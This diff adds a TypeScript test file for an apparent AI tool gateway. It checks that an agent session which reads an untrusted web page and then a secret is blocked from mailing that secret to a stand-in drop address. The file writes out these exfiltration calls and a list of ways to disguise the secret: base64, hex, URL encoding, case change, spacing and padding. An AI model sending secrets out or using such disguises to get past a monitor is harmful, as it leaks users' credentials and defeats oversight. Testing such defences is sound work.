@@ -1,0 +1,158 @@
+import { describe, expect, it } from 'vitest';
+import { topics } from '../../schemas/topics.ts';
+import { connectLegacy, connectModern, type TestClient } from '../support/gateway/mcp-clients.ts';
+import { dataOf, type Rig, startRig, until, World } from '../support/gateway/gateway-rig.ts';
+import { PipeTransport } from '../support/gateway/pipe-transport.ts';
+
+const listen = '127.0.0.1:0';
+
+interface Scene {
+  readonly world: World;
+  readonly rig: Rig;
+  readonly client: TestClient;
+}
+
+type Form = (world: World) => Promise<{ readonly rig: Rig; readonly client: TestClient }>;
+
+const overStdio: Form = async (world) => {
+  const transport = new PipeTransport();
+  const { serverCommand } = world;
+  const rig = await startRig({ world, serverCommand, hasWorker: true, overrides: { pipes: transport.pipes } });
+  return { rig, client: await connectLegacy(transport) };
+};
+
+const overHttp: Form = async (world) => {
+  const rig = await startRig({ world, serverCommand: world.serverCommand, hasWorker: true, given: { listen } });
+  return { rig, client: await connectLegacy(rig.url) };
+};
+
+const overHttpInModernEra: Form = async (world) => {
+  const rig = await startRig({ world, serverCommand: world.serverCommand, hasWorker: true, given: { listen } });
+  return { rig, client: await connectModern(rig.url) };
+};
+
+async function inScene(form: Form, play: (scene: Scene) => Promise<void>): Promise<void> {
+  using world = new World();
+  const { rig, client } = await form(world);
+  await using _ending = rig;
+  await client.tools();
+  try {
+    await play({ world, rig, client });
+  } finally {
+    await client.close();
+  }
+}
+
+/** Reads what is not trusted, then a secret, and waits until the gateway is armed. */
+async function readPageAndSecret({ client, rig }: Scene, entry = 'first'): Promise<void> {
+  await client.call('fetch_webpage', { url: 'https://news.example/today' });
+  await client.call('get_secret', { entry });
+  await until(() => rig.records.some((record) => record.topic === topics.acks && isApplied(dataOf(record))));
+}
+
+function isApplied(ack: Readonly<Record<string, unknown>>): boolean {
+  return (ack['commands'] as { readonly status: string }[]).some(({ status }) => status === 'applied');
+}
+
+function mailsSeen({ world }: Scene): number {
+  return world.seen().filter(({ tool }) => tool === 'send_mail').length;
+}
+
+const forms = [
+  ['over stdio', overStdio],
+  ['over HTTP', overHttp],
+  ['over HTTP in the 2026-07-28 era', overHttpInModernEra],
+] as const;
+
+describe.each(forms)('a chain %s', (_name, form) => {
+  it('is refused at its last call, which the server never sees', async () => {
+    await inScene(form, async (scene) => {
+      await readPageAndSecret(scene);
+      const { client, world } = scene;
+      const answer = await client.call('send_mail', { to: 'x@drop.example', body: `the key is ${world.secret}, done` });
+      expect(answer).toMatchObject({ isError: true, refusal: { refused: true } });
+      expect(answer.text).not.toContain(world.secret);
+      expect(mailsSeen(scene)).toBe(0);
+    });
+  });
+
+  it('goes on when the last call carries nothing of what was read', async () => {
+    await inScene(form, async (scene) => {
+      await readPageAndSecret(scene);
+      const { client, world } = scene;
+      expect(await client.call('send_mail', { to: 'x@drop.example', body: 'all is well' })).toMatchObject({
+        isError: false,
+      });
+      const answer = await client.call('send_mail', { to: 'x@drop.example', body: `the key is ${world.other}` });
+      expect(answer).toMatchObject({ isError: false });
+      expect(mailsSeen(scene)).toBe(2);
+    });
+  });
+});
+
+describe('a secret on its way out', () => {
+  const hex = (text: string): string => Buffer.from(text).toString('hex');
+  const disguises: readonly (readonly [string, (secret: string) => unknown])[] = [
+    ['inside a sentence', (secret) => `please note ${secret} for later`],
+    ['inside JSON in a string', (secret) => JSON.stringify({ notes: [{ value: secret }] })],
+    ['as base64', (secret) => Buffer.from(secret).toString('base64')],
+    ['as hex', hex],
+    ['URL-encoded', (secret) => hex(secret).replace(/../g, '%$&')],
+    ['in other case', (secret) => secret.toUpperCase()],
+    ['with white space between', (secret) => secret.replace(/./g, '$& ')],
+    ['in a nested object', (secret) => ({ a: { b: [{ c: secret }] } })],
+    ['after padding', (secret) => `${'All went well today. '.repeat(1000)}${secret}`],
+  ];
+
+  // A scene of its own for each: after some refusals a session is refused every egress.
+  it.each(disguises)('is refused %s', async (_name, disguise) => {
+    await inScene(overStdio, async (scene) => {
+      await readPageAndSecret(scene);
+      const { client, world } = scene;
+      const honest = await client.call('send_mail', { to: 'x@drop.example', body: disguise('nothing of interest') });
+      const answer = await client.call('send_mail', { to: 'x@drop.example', body: disguise(world.secret) });
+      expect([honest.isError, answer.isError]).toEqual([false, true]);
+      expect(mailsSeen(scene)).toBe(1);
+    });
+  });
+
+  it('is refused when it is the second of two that were read', async () => {
+    await inScene(overStdio, async (scene) => {
+      await readPageAndSecret(scene);
+      const { client, world, rig } = scene;
+      const before = rig.records.length;
+      await client.call('get_secret', { entry: 'other' });
+      await until(() =>
+        rig.records.slice(before).some((record) => record.topic === topics.acks && isApplied(dataOf(record))),
+      );
+      expect(await client.call('send_mail', { to: 'x@drop.example', body: world.other })).toMatchObject({
+        isError: true,
+      });
+      expect(mailsSeen(scene)).toBe(0);
+    });
+  });
+
+  it('is refused by an armed gateway whose worker has stopped', async () => {
+    await inScene(overStdio, async (scene) => {
+      await readPageAndSecret(scene);
+      await scene.rig.stopWorker();
+      const answer = await scene.client.call('send_mail', { to: 'x@drop.example', body: scene.world.secret });
+      expect(answer).toMatchObject({ isError: true });
+      expect(mailsSeen(scene)).toBe(0);
+    });
+  });
+
+  it('leaves no trace of itself in records, logs and metrics', async () => {
+    await inScene(overHttp, async (scene) => {
+      await readPageAndSecret(scene);
+      const { client, world, rig } = scene;
+      await client.call('send_mail', { to: 'x@drop.example', body: `${world.secret} ${world.other}` });
+      await until(() => rig.records.filter(({ topic }) => topic === topics.alerts).length > 0);
+      const told = rig.records.map(({ key, value, headers }) => `${key}${String(value)}${JSON.stringify(headers)}`);
+      const everything = [...told, ...rig.logged, await rig.metrics()].join('\n');
+      for (const marked of [world.secret, world.other, 'x@drop.example', 'news.example']) {
+        expect(everything).not.toContain(marked);
+      }
+    });
+  });
+});
